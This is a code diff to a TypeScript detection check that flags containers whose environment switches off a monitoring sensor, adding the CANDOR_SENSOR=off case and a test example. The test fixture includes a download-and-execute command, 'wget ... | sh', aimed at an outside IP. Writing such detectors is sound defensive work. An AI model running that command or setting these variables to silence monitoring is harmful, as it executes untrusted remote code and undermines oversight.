@@ -41,11 +41,20 @@ function switches(past: History, seenNow: Detections | null, all: readonly Conta
     .filter(({ running }) => running)
     .flatMap((container): Switch[] => {
       const entry = container.env.find(
-        ({ name, value }) => name === 'DISABLE_SUBPROC_DIAG' && !/^(?:false|0|no|)$/i.test(value),
+        ({ name, value }) =>
+          (name === 'DISABLE_SUBPROC_DIAG' && !/^(?:false|0|no|)$/i.test(value)) ||
+          (name === 'CANDOR_SENSOR' && /^off$/i.test(value)),
       );
       const subject = `container:${container.name}`;
       return entry
-        ? [{ at: container.createdAt, subject, what: `${entry.name} is set in ${container.name}`, ref: container.ref }]
+        ? [
+            {
+              at: container.createdAt,
+              subject,
+              what: `${entry.name}=${entry.value.slice(0, 20)} in ${container.name}`,
+              ref: container.ref,
+            },
+          ]
         : [];
     });
   return [...ledger, ...words, ...environment];
@@ -183,6 +192,19 @@ export const sensorWasSilenced = defineCheck({
             exampleContainer({
               createdAt: exampleNow,
               env: [{ name: 'DISABLE_SUBPROC_DIAG', value: 'true', strength: null, length: null }],
+            }),
+          ]),
+        },
+      },
+      {
+        title: "Candor's own sensor, in the environment",
+        facts: {
+          history: seen(firstReport),
+          detections: seen(exampleDetections({ calls: [exampleCall('wget -qO- http://203.0.113.9/a | sh')] })),
+          containers: seen([
+            exampleContainer({
+              createdAt: exampleNow,
+              env: [{ name: 'CANDOR_SENSOR', value: 'off', strength: null, length: null }],
             }),
           ]),
         },
